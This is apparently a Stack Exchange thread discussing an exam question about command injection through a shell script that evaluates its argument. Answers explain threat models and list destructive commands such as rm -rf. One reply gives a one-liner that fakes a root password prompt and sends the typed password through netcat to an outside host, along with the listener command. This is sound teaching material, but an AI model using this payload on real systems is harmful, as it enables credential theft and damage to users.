I'm reading through past exams for an information security subject and I came across this.

#applications launcher
eval "$X"

"Do you think the program is vulnerable to attacks? Explain the reason for your answer with an example."

Simple program, obvious vulnerability.

The only example I could answer with (unix programming skill = 0) is that the user input can contain unix commands to cause harm to the system, something like rm -rf /

I would liken this to answering a question about SQL injection and using an example that says DROP TABLE *. It's a legitimate example of the vulnerability but its a boring example.

Unix programmers/security experts. What are some more fun/creative examples for answering this question?


I think you've missed the point of this question. Given the wording of the question, the person who set theexam might not have been very clear on the threat model, unless there's some additional introduction material for this question that you didn't quote and that provides more context.

What you posted is a program which takes one argument, a string, and executes this string as a shell (/bin/sh) program.

The key point is in what context this program is called. There are plenty of programs that execute their argument as a shell program or as an external command, starting with sh itself.

If the program is called in the same security boundary as the entity that decides the argument, there is no security implication since no security barrier is crossed.

If the argument is chosen by an entity outside the security boundary that runs the program (for example, if the program is executed with extra privileges through sudo, or if the argument is read from an external user over the network), then this is a trivial injection. There's no need to be creative: you can put absolutely any code you like in there (you just need to express it in shell syntax). You can access all the files of the user who is running the program, modify them and add new ones, execute whatever programs you want, make use of any availablenetwork connection, etc.

Whenever you can execute arbitrary code in a privileged context, you've won. rm -rf / is actually not going to work unless the program is running as root on a system which doesn't have ad hoc rm -rf / prevention. Something like rm -rf ~ (remove all the files in the user's home) would be more useful if you want to cause harm. But usually attackers are after more productive things, such as reading the files stored on this account or the databases that it has access to, planting a backdoor to be able to regain access later, sending spam or generating bitcoins, and so on.

  • That makes a great deal of sense. You mention arguments being input by external users. In this exact program (or in unix), is that possible? – pjmil Jun 14'14 at 2:43
  • if you're around, I'm still interested in clarifiying a fewthings. @Gilles – pjmil Jun 14 '14at 10:21
  • 1
    @pjmil116 Whether input can come from external users depends on how the program is invoked, not on what the program does. – Gilles 'SO- stopbeing evil' Jun 14 '14 at 11:58
"stty -echo ; echo 'This program requires root privileges.' ; read -p 'Please enter password: ' password ; echo \$password | netcat myhost.foo1337 ; stty echo"

You haveto listen on port 1337 on your machine:

netcat -l 1337

and will be sent the root password of the victim machine (if the user is stupid enough...).

Not the answer you're looking for? Browse otherquestions tagged or ask your own question.